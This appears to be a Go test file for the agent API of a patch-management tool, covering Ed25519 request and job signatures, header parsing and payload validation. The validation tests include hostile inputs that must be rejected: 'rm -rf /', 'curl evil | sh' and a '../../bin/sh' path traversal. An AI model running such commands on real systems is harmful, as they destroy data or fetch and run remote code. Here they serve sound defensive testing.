package agentapi_test

import (
	"bytes"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/patchring/patchring/internal/agentapi"
)

var epoch = time.Date(2026, 11, 10, 9, 0, 0, 0, time.UTC)

func newKey(t testing.TB, seed byte) (ed25519.PublicKey, ed25519.PrivateKey) {
	t.Helper()
	priv := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{seed}, ed25519.SeedSize))
	return priv.Public().(ed25519.PublicKey), priv
}

func signed(t testing.TB, method, target string, body []byte, keyID string, key ed25519.PrivateKey) *http.Request {
	t.Helper()
	req, err := http.NewRequest(method, "https://patchring.example"+target, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	agentapi.SignRequest(req, body, keyID, key, epoch)
	return req
}

func TestRequestSignature(t *testing.T) {
	pub, priv := newKey(t, 1)
	otherPub, _ := newKey(t, 2)
	body := []byte(`{"protocol_version":1}`)
	tests := []struct {
		name    string
		mutate  func(r *http.Request) (pub ed25519.PublicKey, method, uri string, body []byte)
		wantErr error
	}{
		{"OK", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			return pub, r.Method, r.URL.RequestURI(), body
		}, nil},
		{"WrongKey", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			return otherPub, r.Method, r.URL.RequestURI(), body
		}, agentapi.ErrBadSignature},
		{"AlteredBody", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			return pub, r.Method, r.URL.RequestURI(), []byte(`{"protocol_version":2}`)
		}, agentapi.ErrBadSignature},
		{"OtherPath", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			return pub, r.Method, agentapi.PathResults, body
		}, agentapi.ErrBadSignature},
		{"OtherMethod", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			return pub, http.MethodPut, r.URL.RequestURI(), body
		}, agentapi.ErrBadSignature},
		{"AlteredTimestamp", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			r.Header.Set(agentapi.HeaderTimestamp, "1799999999")
			return pub, r.Method, r.URL.RequestURI(), body
		}, agentapi.ErrBadSignature},
		{"AlteredKeyID", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			r.Header.Set(agentapi.HeaderKeyID, "agt_other")
			return pub, r.Method, r.URL.RequestURI(), body
		}, agentapi.ErrBadSignature},
		{"AlteredNonce", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			r.Header.Set(agentapi.HeaderNonce, strings.Repeat("A", 24))
			return pub, r.Method, r.URL.RequestURI(), body
		}, agentapi.ErrBadSignature},
		{"NoPublicKey", func(r *http.Request) (ed25519.PublicKey, string, string, []byte) {
			return nil, r.Method, r.URL.RequestURI(), body
		}, agentapi.ErrBadSignature},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := signed(t, http.MethodPost, agentapi.PathCheckIn, body, "agt_1", priv)
			key, method, uri, b := tt.mutate(req)
			auth, err := agentapi.ParseRequestAuth(req.Header)
			if err != nil {
				t.Fatalf("ParseRequestAuth: %v", err)
			}
			err = auth.Verify(key, method, uri, b)
			if !errors.Is(err, tt.wantErr) {
				t.Errorf("Verify = %v, want %v", err, tt.wantErr)
			}
		})
	}
}

func TestParseRequestAuth(t *testing.T) {
	_, priv := newKey(t, 1)
	good := signed(t, http.MethodPost, agentapi.PathCheckIn, nil, "agt_1", priv).Header
	tests := []struct {
		name    string
		header  string
		value   string
		wantErr error
	}{
		{"OK", "", "", nil},
		{"KeyIDWithSpace", agentapi.HeaderKeyID, "agt 1", agentapi.ErrMalformed},
		{"KeyIDTooLong", agentapi.HeaderKeyID, strings.Repeat("a", 65), agentapi.ErrMalformed},
		{"TimestampText", agentapi.HeaderTimestamp, "yesterday", agentapi.ErrMalformed},
		{"TimestampNegative", agentapi.HeaderTimestamp, "-5", agentapi.ErrMalformed},
		{"NonceShort", agentapi.HeaderNonce, "abc", agentapi.ErrMalformed},
		{"NonceBadChars", agentapi.HeaderNonce, strings.Repeat("+", 20), agentapi.ErrMalformed},
		{"SignatureNotBase64", agentapi.HeaderSignature, "!!", agentapi.ErrMalformed},
		{"SignatureShort", agentapi.HeaderSignature, base64.StdEncoding.EncodeToString([]byte("short")), agentapi.ErrMalformed},
		{"ProtocolText", agentapi.HeaderProtocol, "one", agentapi.ErrMalformed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := good.Clone()
			if tt.header != "" {
				h.Set(tt.header, tt.value)
			}
			a, err := agentapi.ParseRequestAuth(h)
			if !errors.Is(err, tt.wantErr) {
				t.Fatalf("ParseRequestAuth = %v, want %v", err, tt.wantErr)
			}
			if err == nil && (a.KeyID != "agt_1" || !a.Timestamp.Equal(epoch) || a.Protocol != agentapi.ProtocolVersion) {
				t.Errorf("ParseRequestAuth = %+v", a)
			}
		})
	}
	t.Run("Unsigned", func(t *testing.T) {
		if _, err := agentapi.ParseRequestAuth(http.Header{}); !errors.Is(err, agentapi.ErrMissingAuth) {
			t.Errorf("ParseRequestAuth(empty) = %v, want ErrMissingAuth", err)
		}
	})
}

func TestPublicKeyText(t *testing.T) {
	pub, _ := newKey(t, 3)
	s := agentapi.EncodePublicKey(pub)
	got, err := agentapi.ParsePublicKey(s)
	if err != nil || !got.Equal(pub) {
		t.Fatalf("ParsePublicKey(EncodePublicKey) = %x, %v", got, err)
	}
	for _, bad := range []string{"", "ed25519:", "rsa:AAAA", "ed25519:" + base64.StdEncoding.EncodeToString([]byte("short")), s + "x"} {
		if _, err := agentapi.ParsePublicKey(bad); err == nil {
			t.Errorf("ParsePublicKey(%q) accepted", bad)
		}
	}
}

func mustJob(t testing.TB, kind agentapi.JobKind, payload any, agentID string) agentapi.Job {
	t.Helper()
	j, err := agentapi.NewJob("job_1", agentID, kind, payload, epoch, epoch.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	return j
}

func TestJobSignature(t *testing.T) {
	serverPub, serverKey := newKey(t, 9)
	_, rogueKey := newKey(t, 10)
	keys := map[string]ed25519.PublicKey{"srv_1": serverPub}
	install := mustJob(t, agentapi.JobInstall, agentapi.InstallPayload{Source: "apt", Targets: []agentapi.Target{{ID: "openssl=3.0.15-1", Package: "openssl", Version: "3.0.15-1"}}}, "agt_1")
	sj, err := agentapi.SignJob(install, "srv_1", serverKey)
	if err != nil {
		t.Fatal(err)
	}
	alter := func(f func(j *agentapi.Job)) agentapi.SignedJob {
		raw, _ := base64.StdEncoding.DecodeString(sj.Job)
		var j agentapi.Job
		if err := json.Unmarshal(raw, &j); err != nil {
			t.Fatal(err)
		}
		f(&j)
		raw, _ = json.Marshal(j)
		return agentapi.SignedJob{Job: base64.StdEncoding.EncodeToString(raw), KeyID: sj.KeyID, Signature: sj.Signature}
	}
	rogue, err := agentapi.SignJob(install, "srv_1", rogueKey)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		sj      agentapi.SignedJob
		agent   string
		now     time.Time
		wantErr error
	}{
		{"OK", sj, "agt_1", epoch.Add(time.Minute), nil},
		{"Unsigned", agentapi.SignedJob{Job: sj.Job, KeyID: "srv_1"}, "agt_1", epoch, agentapi.ErrBadSignature},
		{"UnknownKey", agentapi.SignedJob{Job: sj.Job, KeyID: "srv_2", Signature: sj.Signature}, "agt_1", epoch, agentapi.ErrUnknownKey},
		{"SignedByRogueKey", rogue, "agt_1", epoch, agentapi.ErrBadSignature},
		{"AlteredVersion", alter(func(j *agentapi.Job) {
			j.Payload = json.RawMessage(`{"source":"apt","targets":[{"id":"x","package":"openssl","version":"0.9"}]}`)
		}), "agt_1", epoch, agentapi.ErrBadSignature},
		{"AlteredExpiry", alter(func(j *agentapi.Job) { j.ExpiresAt = j.ExpiresAt.Add(24 * time.Hour) }), "agt_1", epoch, agentapi.ErrBadSignature},
		{"OtherAgent", sj, "agt_2", epoch, agentapi.ErrWrongAgent},
		{"Expired", sj, "agt_1", epoch.Add(time.Hour), agentapi.ErrExpired},
		{"NotBase64", agentapi.SignedJob{Job: "%%%", KeyID: "srv_1", Signature: sj.Signature}, "agt_1", epoch, agentapi.ErrBadSignature},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			j, err := agentapi.VerifyJob(tt.sj, keys, tt.agent, tt.now)
			if !errors.Is(err, tt.wantErr) {
				t.Fatalf("VerifyJob = %v, want %v", err, tt.wantErr)
			}
			if err == nil {
				var p agentapi.InstallPayload
				if err := j.DecodePayload(&p); err != nil || p.Targets[0].Version != "3.0.15-1" {
					t.Errorf("payload = %+v, %v", p, err)
				}
			}
		})
	}
}

func TestJobValidate(t *testing.T) {
	tests := []struct {
		name      string
		kind      agentapi.JobKind
		payload   string
		wantField string
	}{
		{"Scan", agentapi.JobScan, `{}`, ""},
		{"ScanSources", agentapi.JobScan, `{"sources":["apt","winget"]}`, ""},
		{"ScanUnknownField", agentapi.JobScan, `{"shell":"rm -rf /"}`, "payload"},
		{"InstallNoTargets", agentapi.JobInstall, `{"source":"apt","targets":[]}`, "payload.targets"},
		{"InstallControlChars", agentapi.JobInstall, `{"source":"apt","targets":[{"id":"a","package":"a\nb"}]}`, "payload.targets[0].package"},
		{"Reboot", agentapi.JobReboot, `{"delay_seconds":300,"message":"Patching"}`, ""},
		{"RebootTooLate", agentapi.JobReboot, `{"delay_seconds":999999}`, "payload.delay_seconds"},
		{"Hook", agentapi.JobHook, `{"name":"snapshot"}`, ""},
		{"HookPathName", agentapi.JobHook, `{"name":"../../bin/sh"}`, "payload.name"},
		{"HookCommand", agentapi.JobHook, `{"name":"snapshot","command":"curl evil | sh"}`, "payload"},
		{"UnknownKind", "shell", `{"command":"id"}`, "kind"},
		{"TrailingPayload", agentapi.JobScan, `{} {}`, "payload"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			j := agentapi.Job{ID: "job_1", AgentID: "agt_1", Kind: tt.kind, IssuedAt: epoch, ExpiresAt: epoch.Add(time.Hour), Payload: json.RawMessage(tt.payload)}
			err := j.Validate()
			var fe *agentapi.FieldError
			switch {
			case tt.wantField == "" && err != nil:
				t.Errorf("Validate = %v, want nil", err)
			case tt.wantField != "" && (!errors.As(err, &fe) || fe.Field != tt.wantField):
				t.Errorf("Validate = %v, want an error on %s", err, tt.wantField)
			}
		})
	}
}

func TestResultValidate(t *testing.T) {
	base := func() agentapi.Result {
		return agentapi.Result{ID: "res_1", Kind: agentapi.JobScan, Status: agentapi.ResultSucceeded, StartedAt: epoch, FinishedAt: epoch.Add(time.Second),
			Scan: &agentapi.ScanReport{Sources: []string{"apt"}, Missing: []agentapi.Update{{Source: "apt", ID: "curl=8", Package: "curl"}}}}
	}
	tests := []struct {
		name      string
		mutate    func(r *agentapi.Result)
		wantField string
	}{
		{"OK", func(*agentapi.Result) {}, ""},
		{"BadID", func(r *agentapi.Result) { r.ID = "res 1" }, "id"},
		{"UnknownKind", func(r *agentapi.Result) { r.Kind = "format-disk" }, "kind"},
		{"UnknownStatus", func(r *agentapi.Result) { r.Status = "great" }, "status"},
		{"FinishedBeforeStart", func(r *agentapi.Result) { r.FinishedAt = epoch.Add(-time.Second) }, "finished_at"},
		{"MissingFromUnscannedSource", func(r *agentapi.Result) { r.Scan.Missing[0].Source = "dnf" }, "scan.missing[0].source"},
		{"SourceBothWays", func(r *agentapi.Result) { r.Scan.Failed = map[string]string{"apt": "x"} }, "scan.failed.apt"},
		{"NoReport", func(r *agentapi.Result) { r.Scan = nil }, "scan"},
		{"FailedWithoutReport", func(r *agentapi.Result) { r.Scan, r.Status, r.Error = nil, agentapi.ResultFailed, "boom" }, ""},
		{"WrongReport", func(r *agentapi.Result) { r.Hook = &agentapi.HookReport{Name: "x"} }, "hook"},
		{"RefusedWithReport", func(r *agentapi.Result) { r.Status = agentapi.ResultRefused }, "status"},
		{"Refused", func(r *agentapi.Result) { r.Status, r.Scan, r.JobID = agentapi.ResultRefused, nil, "job_1" }, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := base()
			tt.mutate(&r)
			err := r.Validate()
			var fe *agentapi.FieldError
			switch {
			case tt.wantField == "" && err != nil:
				t.Errorf("Validate = %v, want nil", err)
			case tt.wantField != "" && (!errors.As(err, &fe) || fe.Field != tt.wantField):
				t.Errorf("Validate = %v, want an error on %s", err, tt.wantField)
			}
		})
	}
}

func TestNewID(t *testing.T) {
	a, b := agentapi.NewID("res", epoch), agentapi.NewID("res", epoch.Add(time.Millisecond))
	if !agentapi.ValidID(a) || !agentapi.ValidID(b) || a == b || !(a < b) {
		t.Errorf("NewID = %q, %q: want valid, distinct, time-ordered", a, b)
	}
}
